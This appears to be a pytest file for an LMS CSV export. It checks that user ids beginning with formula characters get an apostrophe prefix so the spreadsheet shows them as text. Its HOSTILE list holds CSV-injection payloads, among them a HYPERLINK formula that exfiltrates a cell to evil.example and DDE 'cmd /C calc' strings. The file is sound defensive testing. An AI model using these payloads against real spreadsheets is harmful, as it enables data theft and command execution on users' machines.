"""The teacher's CSV export never hands a spreadsheet a formula (CSV/formula injection).

LMS user ids and names come from the platform, so an agent may choose what lands in the
teacher's spreadsheet. A cell starting with ``= + - @``, a tab or a carriage return is
prefixed with ``'`` (OWASP), so the spreadsheet shows it as text instead of running it.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable

import pytest

from tests.player.agent import Agent

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"clic")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("sub", HOSTILE)
def test_hostile_agent_ids_are_neutralised_in_the_csv(
    make_agent: Callable[..., Agent], sub: str
) -> None:
    agent = make_agent(sub=sub)
    agent.launch()
    agent.start()
    teacher = make_agent(teacher=True, sub="teacher-1")
    teacher.launch()

    download = teacher.get("/activity/report", format="csv")
    assert download.status_code == 200
    rows = list(
        csv.reader(io.StringIO(download.get_data(as_text=True).lstrip("\ufeff")), delimiter=";")
    )
    header, line = rows[0], rows[1]
    cell = line[header.index("Agent (identifiant)")]
    assert cell == "'" + sub
    for row in rows:
        for value in row:
            assert not value or value[0] not in "=+-@\t\r", row


def test_harmless_values_are_left_as_they_are(make_agent: Callable[..., Agent]) -> None:
    agent = make_agent(sub="agent-42")
    agent.launch()
    agent.start()
    teacher = make_agent(teacher=True, sub="teacher-1")
    teacher.launch()
    text = teacher.get("/activity/report", format="csv").get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
    assert rows[1][0] == "agent-42"
